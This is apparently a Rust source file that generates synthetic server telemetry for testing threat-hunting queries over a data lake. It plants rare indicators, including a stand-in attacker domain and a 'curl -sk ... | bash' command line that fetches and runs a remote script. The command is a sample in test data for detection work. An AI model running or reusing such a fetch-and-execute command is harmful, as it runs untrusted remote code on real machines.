//! A seeded estate of Linux servers that writes weeks of telemetry straight into a lake's files.
//!
//! What is skewed on real servers is skewed here: a few devices make much of the rows, a few programs most of them, most
//! command lines repeat and a third never do, a few remote addresses take most connections. Rows of the tables fit
//! together: a connection, a file event or a log-on names a process that has a row. Some words, addresses and hashes are
//! planted once a day on one device; they are the needles.
//!
//! Everything of a row follows from its device, day and number by one hash, so that files can be written in any order
//! and in parallel.

use super::words;
use anyhow::Context as _;
use arrow::array::{
    ArrayRef, BooleanArray, DictionaryArray, Int32Array, Int64Array, RecordBatch, StringArray, StringBuilder,
    TimestampMicrosecondArray,
};
use arrow::datatypes::Int32Type;
use garrison_lake::{FinishedFile, Lake, LakeConfig, TableSpec};
use garrison_model::Micros;
use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

/// Days of telemetry.
pub const DAYS: u64 = 14;
/// Servers.
pub const DEVICES: usize = 1_000;
/// End of the data, 2026-11-15T00:00:00Z: `now` of the queries.
pub const END: i64 = 1_794_700_800_000_000;
const DAY: i64 = 86_400_000_000;
const BATCH_ROWS: usize = 16_384;
/// Raised whenever the generator writes other rows, so that old ones are not reused.
const VERSION: u32 = 1;

/// Tables, their share of all rows in per cent, and rows of a file: about 128 MiB.
pub const TABLES: &[(&str, u64, u64)] = &[
    ("DeviceProcessEvents", 50, 1_800_000),
    ("DeviceNetworkEvents", 25, 2_400_000),
    ("DeviceFileEvents", 17, 2_400_000),
    ("DeviceLogonEvents", 8, 4_000_000),
];

/// Opens the lake of so many rows, writing it first if there is none.
pub fn lake(folder: &Path, rows: u64, seed: u64) -> anyhow::Result<(Lake, PathBuf)> {
    let done = folder.join(format!("hunt-{rows}-{seed}-v{VERSION}"));
    if !done.exists() {
        let part = folder.join(format!("part-{rows}-{seed}-v{VERSION}"));
        if part.exists() {
            std::fs::remove_dir_all(&part).context("cannot remove an unfinished lake")?;
        }
        std::fs::create_dir_all(&part).context("cannot create the folder of the data")?;
        let start = std::time::Instant::now();
        write(&open(&part)?, rows, seed)?;
        std::fs::rename(&part, &done).context("cannot name the finished lake")?;
        let seconds = start.elapsed().as_secs_f64();
        println!("  wrote {rows} rows in {seconds:.0} s, {:.0} rows a second", rows as f64 / seconds);
    }
    Ok((open(&done)?, done))
}

fn open(folder: &Path) -> anyhow::Result<Lake> {
    let tables: Vec<TableSpec> = TableSpec::hunting_tables()
        .into_iter()
        .filter(|spec| TABLES.iter().any(|(name, ..)| *name == spec.name))
        .collect();
    Ok(Lake::open(folder, LakeConfig { tables, ..LakeConfig::default() })?)
}

struct Job {
    table: usize,
    day: u64,
    slot: u64,
    slots: u64,
    rows_of_day: u64,
}

fn write(lake: &Lake, rows: u64, seed: u64) -> anyhow::Result<()> {
    let estate = Estate::new(seed);
    let mut jobs = Vec::new();
    for (table, (_, share, rows_of_file)) in TABLES.iter().enumerate() {
        let rows_of_day = rows * share / 100 / DAYS;
        let slots = rows_of_day.div_ceil(*rows_of_file).max(1);
        for day in 0..DAYS {
            jobs.extend((0..slots).map(|slot| Job { table, day, slot, slots, rows_of_day }));
        }
    }
    let process_rows_of_day = rows * TABLES[0].1 / 100 / DAYS;
    let queue = Mutex::new(jobs.into_iter());
    let finished: Mutex<Vec<(usize, FinishedFile)>> = Mutex::new(Vec::new());
    let work = || -> anyhow::Result<()> {
        loop {
            let Some(job) = queue.lock().ok().and_then(|mut queue| queue.next()) else { return Ok(()) };
            let file = estate.write_file(lake, &job, process_rows_of_day)?;
            if let Ok(mut finished) = finished.lock() {
                finished.push((job.table, file));
            }
        }
    };
    let threads = std::thread::available_parallelism().map_or(2, usize::from);
    std::thread::scope(|scope| {
        let running: Vec<_> = (0..threads).map(|_| scope.spawn(work)).collect();
        running.into_iter().try_for_each(|thread| thread.join().unwrap_or_else(|_| anyhow::bail!("a writer panicked")))
    })?;
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    let mut finished = finished.into_inner().unwrap_or_default();
    for (table, (name, ..)) in TABLES.iter().enumerate() {
        let (files, rest) = finished.into_iter().partition::<Vec<_>, _>(|(of, _)| *of == table);
        finished = rest;
        let files = files.into_iter().map(|(_, file)| file).collect();
        runtime.block_on(lake.add_bulk_files(name, files, Micros(END)))?;
    }
    Ok(())
}

/// Spreads the bits of a number (splitmix64).
fn mix(number: u64) -> u64 {
    let mut x = number.wrapping_add(0x9e37_79b9_7f4a_7c15);
    x = (x ^ (x >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    x ^ (x >> 31)
}

/// A list to draw from with the weights of a Zipf law: a table of 65,536 tickets.
fn tickets(count: usize, steepness: f64, shift: usize) -> Vec<u32> {
    let weights: Vec<f64> = (1..=count).map(|rank| (rank as f64).powf(-steepness)).collect();
    let total: f64 = weights.iter().sum();
    let mut tickets = Vec::with_capacity(65_536);
    let mut sum = 0.0;
    for (rank, weight) in weights.iter().enumerate() {
        sum += weight;
        let until = (sum / total * 65_536.0).round() as usize;
        // The order of programs differs a little between roles.
        let which = ((rank / 8 * 8) + (rank + shift) % 8).min(count - 1);
        while tickets.len() < until {
            tickets.push(which as u32);
        }
    }
    tickets
}

fn draw(tickets: &[u32], bits: u64) -> usize {
    tickets.get((bits & 0xffff) as usize).copied().unwrap_or(0) as usize
}

fn texts<T: AsRef<str>>(values: impl IntoIterator<Item = T>) -> ArrayRef {
    let values: Vec<T> = values.into_iter().collect();
    Arc::new(StringArray::from_iter_values(values))
}

fn hex(number: u64, bytes: usize, salt: u64) -> String {
    let mut text = String::with_capacity(bytes * 2);
    for part in 0..bytes.div_ceil(8) as u64 {
        let _ = write!(text, "{:016x}", mix(number ^ salt ^ (part << 56)));
    }
    text.truncate(bytes * 2);
    text
}

/// A hash that one device shows once a day.
pub fn rare_hash() -> String {
    hex(0, 32, 0xbad0_bad0)
}

/// The device of most rows but two: busy, but not the busiest.
pub fn device_id(device: usize) -> String {
    hex(device as u64, 20, 0xde71)
}

struct Estate {
    seed: u64,
    /// Share of the rows of a day that is a device's, cumulated.
    shares: Vec<f64>,
    /// Devices in the order of their ids: the order of rows in a file.
    order: Vec<usize>,
    device_ids: ArrayRef,
    device_names: ArrayRef,
    boots: ArrayRef,
    local_addresses: ArrayRef,
    program_tickets: Vec<Vec<u32>>,
    address_tickets: Vec<u32>,
    names: ArrayRef,
    paths: ArrayRef,
    sha1: ArrayRef,
    sha256: ArrayRef,
    md5: ArrayRef,
    parent_lines: ArrayRef,
    accounts: ArrayRef,
    sids: ArrayRef,
    addresses: ArrayRef,
    address_kinds: ArrayRef,
    domains: ArrayRef,
    additional: ArrayRef,
    common_lines: Vec<Vec<String>>,
    folders: ArrayRef,
    file_hashes: ArrayRef,
}

/// Programs: those of the list, and versions of them in folders of their own that only some devices have.
const PROGRAMS: usize = 400;
const ADDRESSES: usize = 40_000;
const COMMON_LINES: usize = 48;
const FILE_HASHES: usize = 60_000;

/// One process, as every table tells of it.
struct Process {
    program: usize,
    parent: usize,
    account: usize,
    id: i64,
    parent_id: i64,
    hash: u64,
    number: u64,
    parent_number: u64,
    rare: bool,
}

impl Estate {
    fn new(seed: u64) -> Self {
        let weights: Vec<f64> = (1..=DEVICES).map(|rank| (rank as f64).powf(-0.7)).collect();
        let total: f64 = weights.iter().sum();
        let shares = weights.iter().map(|weight| weight / total).collect();
        let ids: Vec<String> = (0..DEVICES).map(device_id).collect();
        let mut order: Vec<usize> = (0..DEVICES).collect();
        order.sort_by(|a, b| ids[*a].cmp(&ids[*b]));
        let roles = words::ROLES;
        let program = |at: usize| words::PROGRAMS[at % words::PROGRAMS.len()];
        let path = |at: usize| {
            let (folder, name) = program(at);
            match at / words::PROGRAMS.len() {
                0 => format!("{folder}/{name}"),
                version => format!("/opt/vendor{version}/bin/{name}"),
            }
        };
        Self {
            seed,
            shares,
            order,
            device_names: texts((0..DEVICES).map(|d| format!("{}-{d:04}.prod.example", roles[d % roles.len()]))),
            boots: texts((0..DEVICES).map(|d| {
                let boot = hex(d as u64, 16, 0xb007);
                format!("{}-{}-4{}-8{}-{}", &boot[..8], &boot[8..12], &boot[13..16], &boot[17..20], &boot[20..])
            })),
            local_addresses: texts((0..DEVICES).map(|d| format!("10.{}.{}.{}", 16 + d % 6, d / 200, d % 200 + 10))),
            device_ids: texts(ids),
            program_tickets: (0..roles.len()).map(|role| tickets(PROGRAMS, 1.1, role)).collect(),
            address_tickets: tickets(ADDRESSES, 1.0, 0),
            names: texts((0..PROGRAMS).map(|at| program(at).1)),
            paths: texts((0..PROGRAMS).map(path)),
            sha1: texts((0..=PROGRAMS).map(|at| hex(at as u64, 20, 0x51a1))),
            sha256: texts((0..PROGRAMS).map(|at| hex(at as u64, 32, 0x51a2)).chain([rare_hash()])),
            md5: texts((0..=PROGRAMS).map(|at| hex(at as u64, 16, 0x3d5))),
            parent_lines: texts((0..PROGRAMS).flat_map(|at| {
                (0..8).map(move |n| words::common_line(&path(at), program(at).1, mix((at * 64 + n) as u64)))
            })),
            accounts: texts(words::ACCOUNTS),
            sids: texts((0..words::ACCOUNTS.len()).map(|at| if at == 0 { 0 } else { 999 + at }.to_string())),
            addresses: texts(
                (0..ADDRESSES)
                    .map(|at| {
                        let x = mix(at as u64 ^ 0xadd7);
                        if at % 3 == 0 {
                            format!("10.{}.{}.{}", 16 + x % 6, x >> 8 & 3, x >> 16 & 0xff)
                        } else {
                            format!("{}.{}.{}.{}", 20 + x % 180, x >> 8 & 0xff, x >> 16 & 0xff, 1 + (x >> 24) % 254)
                        }
                    })
                    .chain(["203.0.113.77".to_owned()]),
            ),
            address_kinds: texts(["Private", "Public"]),
            domains: texts((0..4_000).map(words::domain).chain(["cdn.zx9updater.example".to_owned()])),
            additional: texts((0..600).map(|n| {
                format!(r#"{{"ContainerId":"{}","Namespace":"{}"}}"#, hex(n, 6, 0xc0), words::ACCOUNTS[n as usize % 12])
            })),
            common_lines: (0..PROGRAMS)
                .map(|at| {
                    (0..COMMON_LINES)
                        .map(|n| words::common_line(program(at).1, program(at).1, mix((at * 977 + n) as u64)))
                        .collect()
                })
                .collect(),
            folders: texts(words::FOLDERS),
            file_hashes: texts((0..FILE_HASHES).map(|at| hex(at as u64, 32, 0xf11e)).chain([rare_hash()])),
        }
    }

    fn rows_of(&self, device: usize, rows_of_day: u64) -> u64 {
        (self.shares[device] * rows_of_day as f64).round().max(1.0) as u64
    }

    fn hash(&self, device: usize, day: u64, number: u64, salt: u64) -> u64 {
        mix(self.seed ^ salt ^ mix((device as u64) << 44 ^ day << 36 ^ number))
    }

    fn process(&self, device: usize, day: u64, number: u64, rows: u64) -> Process {
        let hash = self.hash(device, day, number, 0x9c);
        let role = device % words::ROLES.len();
        // A parent lives for about a dozen children.
        let parent_number = number / 12 * 12;
        let parent_hash = self.hash(device, day, parent_number, 0xfa);
        Process {
            program: draw(&self.program_tickets[role], hash),
            parent: draw(&self.program_tickets[role], parent_hash) / 4,
            account: (hash >> 16 & 0xff) as usize * (hash >> 24 & 0xff) as usize * words::ACCOUNTS.len() / 65_536,
            id: 300 + (hash >> 32 & 0x3f_ffff) as i64,
            parent_id: 300 + (parent_hash >> 32 & 0x3f_ffff) as i64,
            hash,
            number,
            parent_number,
            rare: device == (day as usize * 71 + 13) % DEVICES && number == rows / 2,
        }
    }

    fn write_file(&self, lake: &Lake, job: &Job, process_rows_of_day: u64) -> anyhow::Result<FinishedFile> {
        let (name, ..) = TABLES[job.table];
        let start = END - (DAYS - job.day) as i64 * DAY;
        let mut file = None;
        let mut rows = Rows::default();
        for device in &self.order {
            let count = self.rows_of(*device, job.rows_of_day);
            let (first, end) = (count * job.slot / job.slots, count * (job.slot + 1) / job.slots);
            let processes = self.rows_of(*device, process_rows_of_day);
            for number in first..end {
                let jitter = (self.hash(*device, job.day, number, 0x71) >> 20) % 1_000;
                let time = start + ((number * 1_000 + jitter) as i128 * DAY as i128 / (count as i128 * 1_000)) as i64;
                let of = if job.table == 0 { number } else { number * processes / count };
                rows.add(*device, number, time, self.process(*device, job.day, of, processes));
                if rows.devices.len() == BATCH_ROWS {
                    self.flush(lake, job, name, start, &mut rows, &mut file)?;
                }
            }
        }
        self.flush(lake, job, name, start, &mut rows, &mut file)?;
        Ok(file.context("a file without rows")?.finish(Micros(END))?)
    }

    fn flush(
        &self,
        lake: &Lake,
        job: &Job,
        name: &str,
        day_start: i64,
        rows: &mut Rows,
        file: &mut Option<garrison_lake::BulkFile>,
    ) -> anyhow::Result<()> {
        if rows.devices.is_empty() {
            return Ok(());
        }
        let batch = match job.table {
            0 => self.process_batch(rows, job.day)?,
            1 => self.network_batch(rows, job.day)?,
            2 => self.file_batch(rows, job.day)?,
            _ => self.logon_batch(rows, job.day)?,
        };
        rows.clear();
        let open = match file {
            Some(open) => open,
            None => {
                let schema = batch.schema();
                let columns: Vec<&str> = schema.fields().iter().map(|field| field.name().as_str()).collect();
                file.insert(lake.bulk_file(name, Micros(day_start), &columns)?)
            }
        };
        Ok(open.write(&batch)?)
    }

    /// Columns that all tables have.
    fn common(&self, rows: &Rows, day: u64) -> Vec<(&'static str, ArrayRef)> {
        let time = |shift: &dyn Fn(usize, i64) -> i64| -> ArrayRef {
            let times = rows.times.iter().enumerate().map(|(at, time)| shift(at, *time));
            Arc::new(TimestampMicrosecondArray::from_iter_values(times).with_timezone("UTC"))
        };
        let devices = |values: &ArrayRef| rows.pick(values, |at| Some(rows.devices[at]));
        vec![
            ("Timestamp", time(&|_, time| time)),
            ("DeviceId", devices(&self.device_ids)),
            ("DeviceName", devices(&self.device_names)),
            ("BootId", devices(&self.boots)),
            // Sensors send about every second.
            ("IngestTime", time(&|_, time| time / 1_000_000 * 1_000_000 + 1_400_000)),
            ("ReportId", rows.numbers(|at| (day * 10_000_000 + rows.number[at]) as i64)),
        ]
    }

    /// The process of a row as the one that did it.
    fn initiator(&self, rows: &Rows, day: u64) -> Vec<(&'static str, ArrayRef)> {
        let all = &rows.processes;
        vec![
            ("InitiatingProcessFileName", rows.pick(&self.names, |at| Some(all[at].program))),
            ("InitiatingProcessFolderPath", rows.pick(&self.paths, |at| Some(all[at].program))),
            ("InitiatingProcessSHA256", rows.pick(&self.sha256, |at| Some(all[at].program))),
            ("InitiatingProcessCommandLine", self.lines(rows, day)),
            ("InitiatingProcessId", rows.numbers(|at| all[at].id)),
            ("InitiatingProcessAccountName", rows.pick(&self.accounts, |at| Some(all[at].account))),
            ("InitiatingProcessParentFileName", rows.pick(&self.names, |at| Some(all[at].parent))),
            ("InitiatingProcessParentId", rows.numbers(|at| all[at].parent_id)),
            ("InitiatingProcessUniqueId", self.unique(rows, day, |p| (p.number, p.id))),
        ]
    }

    fn lines(&self, rows: &Rows, day: u64) -> ArrayRef {
        let mut builder = StringBuilder::with_capacity(rows.devices.len(), rows.devices.len() * 80);
        let mut line = String::new();
        for process in &rows.processes {
            let pick = mix(process.hash);
            if process.rare {
                line.clear();
                let _ = write!(line, "sh -c curl -sk https://cdn.zx9updater.example/d{day}/p.sh | bash");
                builder.append_value(&line);
            } else if pick.is_multiple_of(3) {
                line.clear();
                words::fresh_line(&mut line, words::PROGRAMS[process.program % words::PROGRAMS.len()].1, pick >> 8);
                builder.append_value(&line);
            } else {
                // The first lines are the most common ones.
                let at = (((pick >> 8 & 0xff) * (pick >> 16 & 0xff)) >> 8) as usize * COMMON_LINES / 256;
                builder.append_value(&self.common_lines[process.program][at]);
            }
        }
        Arc::new(builder.finish())
    }

    fn unique(&self, rows: &Rows, day: u64, of: impl Fn(&Process) -> (u64, i64)) -> ArrayRef {
        let mut builder = StringBuilder::with_capacity(rows.devices.len(), rows.devices.len() * 28);
        let boots = arrow::array::AsArray::as_string::<i32>(&self.boots);
        let mut text = String::new();
        for (device, process) in rows.devices.iter().zip(&rows.processes) {
            let (number, id) = of(process);
            text.clear();
            text.push_str(&boots.value(*device)[..8]);
            for part in [day * 10_000_000 + number, id as u64] {
                text.push('-');
                let mut shift = (67 - part.leading_zeros()) / 4 * 4;
                while shift > 0 {
                    shift -= 4;
                    text.push(char::from(b"0123456789abcdef"[(part >> shift & 15) as usize]));
                }
            }
            builder.append_value(&text);
        }
        Arc::new(builder.finish())
    }

    fn process_batch(&self, rows: &Rows, day: u64) -> anyhow::Result<RecordBatch> {
        let all = &rows.processes;
        let mut columns = self.common(rows, day);
        let hash = |at: usize| Some(if all[at].rare { PROGRAMS } else { all[at].program });
        columns.extend([
            ("ActionType", rows.pick(&texts(["ProcessCreated"]), |_| Some(0))),
            ("FileName", rows.pick(&self.names, |at| Some(all[at].program))),
            ("FolderPath", rows.pick(&self.paths, |at| Some(all[at].program))),
            ("SHA1", rows.pick(&self.sha1, hash)),
            ("SHA256", rows.pick(&self.sha256, hash)),
            ("MD5", rows.pick(&self.md5, hash)),
            ("FileSize", rows.numbers(|at| (mix(all[at].program as u64) % 4_000_000) as i64)),
            ("ProcessId", rows.numbers(|at| all[at].id)),
            ("ProcessCommandLine", self.lines(rows, day)),
            ("ProcessCreationTime", columns[0].1.clone()),
            ("AccountName", rows.pick(&self.accounts, |at| Some(all[at].account))),
            ("AccountSid", rows.pick(&self.sids, |at| Some(all[at].account))),
            ("LogonId", rows.numbers(|at| (all[at].parent_number % 1_000) as i64)),
            ("InitiatingProcessFileName", rows.pick(&self.names, |at| Some(all[at].parent))),
            ("InitiatingProcessFolderPath", rows.pick(&self.paths, |at| Some(all[at].parent))),
            ("InitiatingProcessSHA256", rows.pick(&self.sha256, |at| Some(all[at].parent))),
            (
                "InitiatingProcessCommandLine",
                rows.pick(&self.parent_lines, |at| Some(all[at].parent * 8 + (all[at].parent_id % 8) as usize)),
            ),
            ("InitiatingProcessId", rows.numbers(|at| all[at].parent_id)),
            ("InitiatingProcessAccountName", rows.pick(&self.accounts, |at| Some(all[at].account))),
            ("InitiatingProcessUniqueId", self.unique(rows, day, |p| (p.parent_number, p.parent_id))),
            ("ProcessUniqueId", self.unique(rows, day, |p| (p.number, p.id))),
            (
                "AdditionalFields",
                rows.pick(&self.additional, |at| {
                    (all[at].hash >> 50).is_multiple_of(4).then_some((all[at].hash >> 52) as usize % 600)
                }),
            ),
        ]);
        Ok(RecordBatch::try_from_iter(columns)?)
    }

    fn network_batch(&self, rows: &Rows, day: u64) -> anyhow::Result<RecordBatch> {
        let all = &rows.processes;
        let bits = |at: usize| self.hash(rows.devices[at], day, rows.number[at], 0x2e7);
        let address = |at: usize| if all[at].rare { ADDRESSES } else { draw(&self.address_tickets, bits(at)) };
        let mut columns = self.common(rows, day);
        columns.extend(self.initiator(rows, day));
        let actions =
            texts(["ConnectionSuccess", "ConnectionFailed", "InboundConnectionAccepted", "ConnectionAttempt"]);
        let ports = [443, 443, 443, 80, 5432, 53, 6379, 22, 8080, 9092];
        columns.extend([
            ("ActionType", rows.pick(&actions, |at| Some([0, 0, 0, 0, 0, 1, 2, 3][(bits(at) >> 16 & 7) as usize]))),
            ("RemoteIP", rows.pick(&self.addresses, |at| Some(address(at)))),
            ("RemoteIPType", rows.pick(&self.address_kinds, |at| Some(usize::from(address(at) % 3 != 0)))),
            (
                "RemotePort",
                rows.ints(|at| match bits(at) >> 20 & 0xffff {
                    0..3 => 4_444,
                    other => ports[other as usize % ports.len()],
                }),
            ),
            (
                "RemoteUrl",
                rows.pick(&self.domains, |at| match address(at) {
                    ADDRESSES => Some(4_000),
                    of => (of % 5 < 2).then_some(of % 4_000),
                }),
            ),
            ("LocalIP", rows.pick(&self.local_addresses, |at| Some(rows.devices[at]))),
            ("LocalPort", rows.ints(|at| 32_768 + (bits(at) >> 40 & 0x6fff) as i32)),
            ("Protocol", rows.pick(&texts(["Tcp", "Udp"]), |at| Some(usize::from((bits(at) >> 36).is_multiple_of(8))))),
        ]);
        Ok(RecordBatch::try_from_iter(columns)?)
    }

    fn file_batch(&self, rows: &Rows, day: u64) -> anyhow::Result<RecordBatch> {
        let all = &rows.processes;
        let bits = |at: usize| self.hash(rows.devices[at], day, rows.number[at], 0xf1);
        let folders = arrow::array::AsArray::as_string::<i32>(&self.folders);
        let count = words::FOLDERS.len() as u64;
        let (mut names, mut paths) = (StringBuilder::new(), StringBuilder::new());
        let mut path = String::new();
        for at in 0..rows.devices.len() {
            let bits = bits(at);
            let folder = (bits & 0xff) * (bits >> 8 & 0xff) * count / 65_536;
            path.clear();
            path.push_str(folders.value(folder as usize));
            path.push('/');
            let start = path.len();
            words::file_name(&mut path, bits >> 16);
            names.append_value(&path[start..]);
            paths.append_value(&path);
        }
        let mut columns = self.common(rows, day);
        columns.extend(self.initiator(rows, day));
        let actions = texts(["FileCreated", "FileModified", "FileDeleted", "FileRenamed"]);
        columns.extend([
            ("ActionType", rows.pick(&actions, |at| Some([0, 0, 0, 1, 1, 1, 2, 3][(bits(at) >> 40 & 7) as usize]))),
            ("FileName", Arc::new(names.finish()) as ArrayRef),
            ("FolderPath", Arc::new(paths.finish()) as ArrayRef),
            (
                "SHA256",
                rows.pick(&self.file_hashes, |at| match bits(at) >> 40 & 7 {
                    _ if all[at].rare => Some(FILE_HASHES),
                    0..3 => Some((bits(at) >> 44) as usize % FILE_HASHES),
                    _ => None,
                }),
            ),
            ("FileSize", rows.numbers(|at| (bits(at) >> 43 & 0xf_ffff) as i64)),
        ]);
        Ok(RecordBatch::try_from_iter(columns)?)
    }

    fn logon_batch(&self, rows: &Rows, day: u64) -> anyhow::Result<RecordBatch> {
        let bits = |at: usize| self.hash(rows.devices[at], day, rows.number[at], 0x106);
        let failed = |at: usize| bits(at) % 10 < 4;
        let mut columns = self.common(rows, day);
        columns.extend(self.initiator(rows, day));
        columns.extend([
            ("ActionType", rows.pick(&texts(["LogonSuccess", "LogonFailed"]), |at| Some(usize::from(failed(at))))),
            (
                "LogonType",
                rows.pick(&texts(["Network", "RemoteInteractive", "Local"]), |at| Some((bits(at) >> 8) as usize % 3)),
            ),
            ("AccountName", rows.pick(&self.accounts, |at| Some((bits(at) >> 16) as usize % words::ACCOUNTS.len()))),
            ("RemoteIP", rows.pick(&self.addresses, |at| Some(draw(&self.address_tickets, bits(at) >> 24)))),
            ("RemotePort", rows.ints(|at| 32_768 + (bits(at) >> 40 & 0x6fff) as i32)),
            ("Protocol", rows.pick(&texts(["ssh", "pam"]), |at| Some(usize::from((bits(at) >> 56).is_multiple_of(4))))),
            ("FailureReason", rows.pick(&texts(["InvalidUserNameOrPassword"]), |at| failed(at).then_some(0))),
            (
                "IsLocalAdmin",
                Arc::new(
                    (0..rows.devices.len())
                        .map(|at| Some((bits(at) >> 58).is_multiple_of(8)))
                        .collect::<BooleanArray>(),
                ),
            ),
        ]);
        Ok(RecordBatch::try_from_iter(columns)?)
    }
}

/// Rows of a batch before they are columns.
#[derive(Default)]
struct Rows {
    devices: Vec<usize>,
    number: Vec<u64>,
    times: Vec<i64>,
    processes: Vec<Process>,
}

impl Rows {
    fn add(&mut self, device: usize, number: u64, time: i64, process: Process) {
        self.devices.push(device);
        self.number.push(number);
        self.times.push(time);
        self.processes.push(process);
    }

    fn clear(&mut self) {
        self.devices.clear();
        self.number.clear();
        self.times.clear();
        self.processes.clear();
    }

    /// A dictionary column over shared values.
    fn pick(&self, values: &ArrayRef, of: impl Fn(usize) -> Option<usize>) -> ArrayRef {
        let keys: Int32Array = (0..self.devices.len()).map(|at| of(at).map(|key| key as i32)).collect();
        Arc::new(DictionaryArray::<Int32Type>::new(keys, Arc::clone(values)))
    }

    fn numbers(&self, of: impl Fn(usize) -> i64) -> ArrayRef {
        Arc::new(Int64Array::from_iter_values((0..self.devices.len()).map(of)))
    }

    fn ints(&self, of: impl Fn(usize) -> i32) -> ArrayRef {
        Arc::new(Int32Array::from_iter_values((0..self.devices.len()).map(of)))
    }
}
